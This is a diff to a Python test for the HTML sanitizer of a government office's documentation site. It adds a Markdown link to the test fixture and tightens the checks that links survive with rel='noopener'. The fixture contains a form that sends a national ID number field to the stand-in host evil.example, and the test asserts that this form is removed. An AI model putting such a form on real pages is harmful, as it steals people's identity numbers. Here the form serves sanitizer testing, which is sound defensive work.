@@ -31,6 +31,8 @@ title: Pengumuman
 
 <p>Teks biasa dengan <a href="tentang/">tautan dalam situs</a> dan <a href="https://bekasikab.go.id/">situs Pemda</a>.</p>
 
+Tautan Markdown ke [halaman tentang](tentang.md).
+
 <form action="https://evil.example/curi"><input name="nik"></form>
 """
 
@@ -58,7 +60,10 @@ def test_a_dinas_page_is_sanitized_with_the_story_allow_list(built: Path) -> Non
     for gone in ("<svg", "<animate", "<set", "javascript:", "evil.example", "image-set", "<form", "<input"):
         assert gone not in body, gone
     assert "Promo" in body  # the text stays, the active parts (and the SVG drawing) go
-    assert 'href="../tentang/"' in body and 'href="https://bekasikab.go.id/"' in body
+    # Links stay: a Markdown link as MkDocs resolves it, raw HTML as written; the Dinas' own, so no nofollow.
+    assert '<a href="../tentang/" rel="noopener">halaman tentang</a>' in body
+    assert '<a href="tentang/" rel="noopener">tautan dalam situs</a>' in body
+    assert '<a href="https://bekasikab.go.id/" rel="noopener">situs Pemda</a>' in body
     assert '<h1 id="pengumuman">Pengumuman</h1>' in body
 
 
